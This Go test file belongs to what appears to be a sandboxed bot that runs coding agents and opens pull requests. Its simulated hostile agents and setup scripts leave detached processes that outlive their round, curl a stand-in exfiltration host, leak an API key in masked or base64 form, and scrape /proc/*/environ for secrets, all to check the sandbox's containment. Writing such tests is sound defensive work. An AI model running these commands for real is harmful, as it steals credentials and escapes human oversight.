package server_test

import (
	"context"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/rs/zerolog"

	"github.com/oneshot-dev/oneshot/internal/filelock"
	"github.com/oneshot-dev/oneshot/sandbox"
	"github.com/oneshot-dev/oneshot/server"
	"github.com/oneshot-dev/oneshot/tasks"
)

func TestNothingTheAgentLeftRunningOutlivesItsRound(t *testing.T) {
	t.Parallel()
	// An agent that leaves a process behind, out of its process group and
	// without the environment that marks it, which could change the code
	// after the checks passed; a check that fails while it runs.
	agent := "setsid env -i sleep 1020 > /dev/null 2>&1 &\n" + goodAgent
	config := strings.Replace(testConfig(0), "    run: "+uuidTests+"\n", `    run: `+uuidTests+`
  - name: alone
    run: "! ps -eo args= | grep -q '^sleep 1020'"
`, 1)
	b := pipelineBundle(t, agent, config)
	if run := b.runTask(t); run.Conclusion != "success" {
		t.Fatalf("check run concluded %q: %s\n%s", run.Conclusion, run.Output.Summary, run.Output.Text)
	}
}

func TestThePullRequestListsTheHostsTheNetworkFilterBlocked(t *testing.T) {
	t.Parallel()
	// The agent tries a host off the allow-list; the proxy refuses it by
	// name, before any lookup or packet.
	agent := "curl -s --max-time 10 -o /dev/null http://exfil.example/upload || true\n" + goodAgent
	config := testConfig(0) + "network:\n  mode: filtered\n  allow: [proxy.golang.org]\n"
	b := pipelineBundle(t, agent, config)
	if run := b.runTask(t); run.Conclusion != "success" {
		t.Fatalf("check run concluded %q: %s\n%s", run.Conclusion, run.Output.Summary, run.Output.Text)
	}
	body := b.gh.PullRequests(b.repo)[0].Body
	if !strings.Contains(body, "Blocked by the network filter") || !strings.Contains(body, "`exfil.example:80`: host is not on the allow-list") {
		t.Fatalf("the pull request does not list the blocked host:\n%s", body)
	}
}

func TestTheAgentsSecretIsMaskedInEverythingShownOnGitHub(t *testing.T) {
	t.Parallel()
	const secret = "sk-test-5ecret-Value-91c2"
	// The agent prints its key and leaves it in a file that the check,
	// which has no secrets of its own, prints as it fails.
	agent := `echo "my key is $ONESHOT_TEST_KEY"
echo "$ONESHOT_TEST_KEY" > leak.txt
` + goodAgent
	config := strings.Replace(testConfig(0), "    run: "+uuidTests+"\n", "    run: cat leak.txt; exit 1\n", 1)
	b := unstartedPipelineBundle(t, agent, config,
		"ONESHOT_AGENT_SECRETS", "ONESHOT_TEST_KEY", "ONESHOT_AGENT_TRUST_REPO_COMMANDS", "true")
	b.agentSecrets = map[string]string{"ONESHOT_TEST_KEY": secret}
	b.srv = b.start(t)

	run := b.runTask(t)
	if run.Conclusion != "failure" || !strings.Contains(run.Output.Summary, sandbox.Mask) {
		t.Fatalf("check run concluded %q without the masked leak in its summary: %s", run.Conclusion, run.Output.Summary)
	}
	shown := []string{b.logs.String()}
	for _, c := range b.gh.Comments(b.repo, 1) {
		shown = append(shown, c.Body)
		shown = append(shown, c.History...)
	}
	for _, h := range run.History {
		shown = append(shown, h.Output.Title, h.Output.Summary, h.Output.Text)
	}
	if all := strings.Join(shown, "\n"); strings.Contains(all, secret) {
		t.Fatal("the agent's secret is shown in a log, comment or check run")
	}
}

func TestAProcessTheRepositoryLeavesRunningCannotReadTheAgentsSecret(t *testing.T) {
	t.Parallel()
	const secret = "sk-test-5ecret-Value-91c2"
	// Setup, the repository's to write, leaves a process behind that
	// reads every process's environment, and writes what it finds
	// reversed, which no masking would recognise; setup ends once it
	// runs; the agent takes a moment; the check fails if anything was
	// found.
	config := testConfig(0) + `setup:
  - (setsid sh -c 'while :; do echo looked >> /tmp/alive; cat /proc/[0-9]*/environ 2>/dev/null | tr "\0" "\n" | grep "^ONESHOT_TEST_KEY=" | rev >> /tmp/found; sleep 0.05; done' > /dev/null 2>&1 &); until [ -s /tmp/alive ]; do sleep 0.05; done
`
	// The check fails too if the process never ran: then it proves nothing.
	config = strings.Replace(config, "    run: "+uuidTests+"\n", "    run: if [ -s /tmp/found ]; then cat /tmp/found; exit 1; fi; test -s /tmp/alive\n", 1)
	b := unstartedPipelineBundle(t, goodAgent+"sleep 1\n", config,
		"ONESHOT_AGENT_SECRETS", "ONESHOT_TEST_KEY", "ONESHOT_AGENT_TRUST_REPO_COMMANDS", "true")
	b.agentSecrets = map[string]string{"ONESHOT_TEST_KEY": secret}
	b.srv = b.start(t)

	run := b.runTask(t)
	if run.Conclusion != "success" {
		t.Fatalf("check run concluded %q: the setup's process read the agent's environment:\n%s", run.Conclusion, run.Output.Summary)
	}
}

// TestAChangeHoldingTheAgentsSecretIsRefused has the agent write its own
// key, which no scanner rule knows the shape of, into the change, plain
// and in base64, and name a file after it: nothing is pushed, and the
// refusal names the secret, not its value.
func TestAChangeHoldingTheAgentsSecretIsRefused(t *testing.T) {
	t.Parallel()
	const secret = "gw-test-7f3c1d2e9a8b"
	agent := goodAgent + `printf 'token: %s\n' "$ONESHOT_TEST_KEY" > fixture.txt
printf '%s' "$ONESHOT_TEST_KEY" | base64 > fixture.b64
touch "cache-$ONESHOT_TEST_KEY.txt"
`
	b := unstartedPipelineBundle(t, agent, testConfig(0),
		"ONESHOT_AGENT_SECRETS", "ONESHOT_TEST_KEY", "ONESHOT_AGENT_TRUST_REPO_COMMANDS", "true")
	b.agentSecrets = map[string]string{"ONESHOT_TEST_KEY": secret}
	b.srv = b.start(t)

	run := b.runTask(t)
	if run.Conclusion != "failure" || !strings.Contains(run.Output.Summary, "looks like a credential") {
		t.Fatalf("check run concluded %q: %s", run.Conclusion, run.Output.Summary)
	}
	for _, where := range []string{"fixture.txt, line 1", "fixture.b64, line 1", "cache-***.txt", "the value of ONESHOT_TEST_KEY"} {
		if !strings.Contains(run.Output.Summary, where) {
			t.Errorf("the refusal does not name %q: %s", where, run.Output.Summary)
		}
	}
	if len(b.gh.PullRequests(b.repo)) != 0 || len(b.gh.Branches(t, b.repo)) != 1 {
		t.Fatal("the change was pushed")
	}
	comments := b.botComments(1)
	if why := comments[len(comments)-1]; strings.Contains(why, secret) || strings.Contains(run.Output.Summary, secret) {
		t.Fatalf("the refusal shows the secret: %s", why)
	}
}

// TestAnAgentThatCannotRunOrFailsSaysWhy runs an agent the sandbox image
// lacks, and one that fails having changed nothing (a bad API key, say):
// each attempt stops saying so, with the agent's own words, not merely
// that nothing changed, nor that checks failing on the code as it was
// still fail after fix rounds the agent could not have used.
func TestAnAgentThatCannotRunOrFailsSaysWhy(t *testing.T) {
	t.Parallel()
	failingChecks := strings.Replace(testConfig(2), "    run: "+uuidTests+"\n", "    run: echo FAIL TestParse; exit 1\n", 1)
	cases := []struct {
		name, script, config, reason, output string
	}{
		{"not installed", "not-an-installed-agent --yes\n", testConfig(1), "the agent command could not run: not found", "not-an-installed-agent: command not found"},
		{"failing", "echo 'error: the API key was refused' >&2\nexit 3\n", testConfig(1), "the agent exited 3 and changed nothing", "the API key was refused"},
		{"failing where the checks fail", "echo 'error: the API key was refused' >&2\nexit 3\n", failingChecks, "the agent exited 3 and changed nothing", "the API key was refused"},
		// An exit of 137 or 139 tells no one why.
		{"killed for memory", "echo 'loading the model'\nhead -c 1500m /dev/zero | tail > /dev/null\n", testConfig(1) + "limits:\n  memory: 128m\n  disk: 64m\n",
			"the kernel killed the agent, or a process it ran, for memory (the sandbox's limits.memory is too small for it) and changed nothing", "loading the model"},
		{"killed by a signal", "echo 'about to crash'\nkill -SEGV $$\n", testConfig(1), "a signal ended the agent (segmentation fault) and changed nothing", "about to crash"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			b := pipelineBundle(t, tc.script, tc.config)
			run := b.runTask(t)
			if run.Conclusion != "failure" || !strings.Contains(run.Output.Summary, tc.reason) || !strings.Contains(run.Output.Summary, tc.output) {
				t.Fatalf("check run %q: %s", run.Conclusion, run.Output.Summary)
			}
			comments := b.botComments(1)
			if why := comments[len(comments)-1]; !strings.Contains(why, tc.reason) {
				t.Fatalf("final comment %q", why)
			}
		})
	}
}

// TestARefusalNeverShowsTheAgentsSecretInAFilesName has the agent name a
// file under a protected path after its key: the refusal, which names the
// file, shows the key masked, on the check run, in the comments and in
// the bot's log.
func TestARefusalNeverShowsTheAgentsSecretInAFilesName(t *testing.T) {
	t.Parallel()
	const secret = "gw-test-9b1c2d3e4f5a"
	agent := goodAgent + `mkdir -p .github/workflows && echo 'on: push' > ".github/workflows/cache-$ONESHOT_TEST_KEY.yml"
`
	b := unstartedPipelineBundle(t, agent, testConfig(0),
		"ONESHOT_AGENT_SECRETS", "ONESHOT_TEST_KEY", "ONESHOT_AGENT_TRUST_REPO_COMMANDS", "true")
	b.agentSecrets = map[string]string{"ONESHOT_TEST_KEY": secret}
	b.srv = b.start(t)

	run := b.runTask(t)
	if run.Conclusion != "failure" || !strings.Contains(run.Output.Summary, "protected paths") ||
		!strings.Contains(run.Output.Summary, "cache-"+sandbox.Mask+".yml") {
		t.Fatalf("check run concluded %q: %s", run.Conclusion, run.Output.Summary)
	}
	shown := []string{b.logs.String()}
	for _, c := range b.gh.Comments(b.repo, 1) {
		shown = append(shown, c.History...)
	}
	for _, h := range run.History {
		shown = append(shown, h.Output.Title, h.Output.Summary, h.Output.Text)
	}
	if strings.Contains(strings.Join(shown, "\n"), secret) {
		t.Fatal("the agent's secret is shown in a log, comment or check run")
	}
}

// TestAFixRoundEndingIn127IsJudgedByTheChecks has an agent whose fix round
// fixes the code and then exits 127, as a wrapper whose last command is
// missing would: the agent ran before, so the checks decide, and pass.
func TestAFixRoundEndingIn127IsJudgedByTheChecks(t *testing.T) {
	t.Parallel()
	script := `if [ "$ONESHOT_ROUND" = 0 ]; then
` + brokenAgent + `else
` + goodAgent + `exit 127
fi
`
	b := pipelineBundle(t, script, testConfig(1))
	if run := b.runTask(t); run.Conclusion != "success" {
		t.Fatalf("check run concluded %q: %s", run.Conclusion, run.Output.Summary)
	}
}

func TestABotWithoutAnAgentCommandSaysSoAtStart(t *testing.T) {
	t.Parallel()
	const warning = "No agent.command (ONESHOT_AGENT_COMMAND) is set"
	without := unstartedPipelineBundle(t, goodAgent, testConfig(0))
	without.start(t)
	with := unstartedPipelineBundle(t, goodAgent, testConfig(0), "ONESHOT_AGENT_COMMAND", "my-agent {prompt_file}")
	with.start(t)
	if !strings.Contains(without.logs.String(), warning) || strings.Contains(with.logs.String(), warning) {
		t.Errorf("logs without an agent command:\n%s\nwith one:\n%s", without.logs.String(), with.logs.String())
	}
}

func TestABotWhoseLinksOpenOnlyOnItsOwnMachineSaysSoAtStart(t *testing.T) {
	t.Parallel()
	const warning = "server.public_url (ONESHOT_PUBLIC_URL) names this machine"
	for url, want := range map[string]bool{"http://localhost:8080": true, "http://127.0.0.1:8080/": true, "https://oneshot.example.com": false} {
		b := unstartedPipelineBundle(t, goodAgent, testConfig(0), "ONESHOT_PUBLIC_URL", url)
		b.start(t)
		if got := strings.Contains(b.logs.String(), warning); got != want {
			t.Errorf("public URL %s: warned %v, want %v", url, got, want)
		}
	}
}

// Validate refuses a public URL with a password, but New logs the URL it
// is given, whoever gave it.
func TestTheStartLogShowsNoPasswordOfThePublicURL(t *testing.T) {
	t.Parallel()
	b := newBundle(t)
	cfg := b.config(t)
	cfg.Server.PublicURL = "http://admin:hunter2pw@localhost:8080"
	var logs syncBuffer
	srv, err := server.New(context.Background(), cfg, server.Options{Version: "test", Logger: zerolog.New(&logs), Runner: b.runner})
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Shutdown(context.Background())
	if !strings.Contains(logs.String(), `"public_url":"http://admin:xxxxx@localhost:8080"`) || strings.Contains(logs.String(), "hunter2pw") {
		t.Errorf("logs:\n%s\nwant the URL with its password redacted", logs.String())
	}
}

// A process killed mid-task leaves its workspace (a pack of the whole
// history among it); the next process of the owner removes it at start,
// and its own tasks' workspaces go with them. A live process's stay.
func TestWorkspacesAnEarlierProcessLeftAreRemovedAtStart(t *testing.T) {
	t.Parallel()
	owner := "test-" + tasks.NewID()
	left := filepath.Join(server.WorkRoot(owner), "process-killed", "oneshot-t0123-1")
	if err := os.MkdirAll(left, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(left, "pack"), []byte("history"), 0o600); err != nil {
		t.Fatal(err)
	}
	// A process of the owner that lives, working beside this one.
	live := filepath.Join(server.WorkRoot(owner), "process-alive")
	if err := os.MkdirAll(filepath.Join(live, "oneshot-t4567-1"), 0o700); err != nil {
		t.Fatal(err)
	}
	lock, err := filelock.TryLock(filepath.Join(live, ".alive"))
	if err != nil || lock == nil {
		t.Fatalf("lock %v, %v", lock, err)
	}
	defer lock.Close()
	b := unstartedPipelineBundle(t, goodAgent, testConfig(0), "ONESHOT_SANDBOX_OWNER", owner)
	b.srv = b.start(t)
	if _, err := os.Stat(filepath.Join(live, "oneshot-t4567-1")); err != nil {
		t.Fatalf("a live process's workspace was removed: %v", err)
	}
	t.Cleanup(func() { os.RemoveAll(server.WorkRoot(owner)) })
	if _, err := os.Stat(filepath.Dir(left)); !errors.Is(err, fs.ErrNotExist) {
		t.Fatalf("the killed process's workspaces are still there: %v", err)
	}
	if run := b.runTask(t); run.Conclusion != "success" {
		t.Fatalf("check run concluded %q: %s", run.Conclusion, run.Output.Summary)
	}
	own, err := filepath.Glob(filepath.Join(server.WorkRoot(owner), "process-*", "oneshot-*"))
	if err != nil || len(own) != 1 || !strings.HasPrefix(own[0], live) {
		t.Fatalf("workspaces left after the task: %v, %v", own, err)
	}
}

func TestABotSaysAtStartWhichOfItsImagesCannotRunASandbox(t *testing.T) {
	t.Parallel()
	b := unstartedPipelineBundle(t, goodAgent, testConfig(0), "ONESHOT_SANDBOX_IMAGES", pipelineImage()+",oneshot-test/absent:9")
	b.start(t)
	logs := b.logs.String()
	if !strings.Contains(logs, "image oneshot-test/absent:9 not found: build it with images/build --tag oneshot-test/absent:9") || strings.Count(logs, "Tasks cannot run in this image") != 1 {
		t.Errorf("logs:\n%s\nwant one warning, naming the absent image", logs)
	}
}

// An agent whose change passes the checks but that exited badly, or ran
// out of time, may have stopped short: the pull request says so.
func TestAPullRequestOfAnAgentThatEndedBadlySaysSo(t *testing.T) {
	t.Parallel()
	b := pipelineBundle(t, goodAgent+"exit 4\n", testConfig(0))
	if run := b.runTask(t); run.Conclusion != "success" {
		t.Fatalf("check run concluded %q: %s", run.Conclusion, run.Output.Summary)
	}
	prs := b.gh.PullRequests(b.repo)
	if len(prs) != 1 || !strings.Contains(prs[0].Body, "the agent exited 4 in its last round; its change may be incomplete") {
		t.Fatalf("pull requests %+v, want one saying how the agent ended", prs)
	}
}

// Checks the change sent into a loop take half the time the task has
// left, however many hang, not all of it: they fail, saying why, while
// the task has time to show it.
func TestACheckThatHangsFailsInHalfTheTimeLeftSayingSo(t *testing.T) {
	t.Parallel()
	config := `image: ` + pipelineImage() + `
verify:
  - name: hangs
    run: sleep 600
  - name: hangs too
    run: sleep 600
fix_rounds: 0
timeout: 40s
agent:
  command: bash ` + agentPath + ` {prompt_file}
`
	b := pipelineBundle(t, goodAgent, config)
	run := b.runTask(t)
	if run.Conclusion != "failure" || !strings.Contains(run.Output.Summary, "2 of 2 checks still fail") ||
		!strings.Contains(run.Output.Summary, "a round of checks may take half the time the task has left") {
		t.Fatalf("check run concluded %q: %s", run.Conclusion, run.Output.Summary)
	}
}
